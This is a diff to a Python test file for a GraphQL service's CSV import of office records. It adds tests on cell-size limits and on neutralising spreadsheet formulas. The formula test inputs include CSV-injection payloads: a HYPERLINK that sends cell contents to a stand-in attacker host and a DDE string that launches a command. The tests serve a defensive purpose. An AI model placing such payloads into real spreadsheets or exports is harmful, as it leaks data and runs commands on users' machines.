@@ -106,7 +106,8 @@ def test_good_lines_are_stored_when_that_is_asked_for(client: ChangingClient) ->
         ("id,version\nOffice:x,1,2", ["csv", "2"], "3 cells, not the 2"),
         ('id,version\n"Office:x,1', ["csv"], "no CSV"),
         ("id,version\nOffice:x\x00,1", ["csv"], "NUL"),
-        ("id,version,name_ru\nOffice:x,1," + "я" * 10_001, ["csv"], "no CSV"),
+        ("id,version,name_ru\nOffice:x,1," + "я" * 10_001, ["csv", "2"], "longer than 10000"),
+        ('id,version,name_ru\nOffice:x,1,"' + "я" * 200_000 + '"', ["csv"], "no CSV"),
         ("id,version\n" + "Office:x,1\n" * 1_001, ["csv"], "at most 1000"),
     ],
 )
@@ -118,6 +119,37 @@ def test_what_is_no_list_of_offices_is_refused(
     assert (error["code"], error["path"]) == ("INVALID", path)
     assert message in error["message"]
     assert client.edition.number == 1
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example?"&A1;"Акимат")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-Отдел, +7 и =1",
+]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_formula_is_a_text_that_no_spreadsheet_calculates(client: ChangingClient, formula: str) -> None:
+    rows = [row for row in exported(client) if row["id"] == f"Office:{KARASAI}"]
+    rows[0]["name_ru"] = formula
+    client.change(IMPORT, csv=as_text(rows))
+    assert client.edition.offices[KARASAI].names[0].value == formula
+    (row,) = [row for row in exported(client) if row["id"] == f"Office:{KARASAI}"]
+    assert (row["name_ru"], row["phones"]) == (f"'{formula}", "+77163834190")
+    # And an export that nobody touched changes nothing, also with such a name in it.
+    assert client.refused(IMPORT, csv=as_text(exported(client))) == [("INVALID", ["csv"])]
+
+
+def test_a_cell_of_ten_megabytes_is_refused_by_the_size_of_the_request_or_as_a_cell(
+    client: ChangingClient, store_engine: Engine
+) -> None:
+    huge = "id,version,name_ru\nOffice:x,1," + "a" * 10_000_000
+    body = {"query": IMPORT, "variables": {"csv": huge}}
+    before = client.edition
+    assert client.http.post("/graphql", json=body).status_code == 413
+    large = ChangingClient(store_engine, {"KENSE_BODY_LIMIT_BYTES": "20000000"})
+    assert large.refused(IMPORT, csv=huge) == [("INVALID", ["csv"])]
+    assert load_edition(store_engine) == before
 
 
 def test_a_line_out_of_the_territory_is_refused_and_the_others_may_pass(client: ChangingClient) -> None:
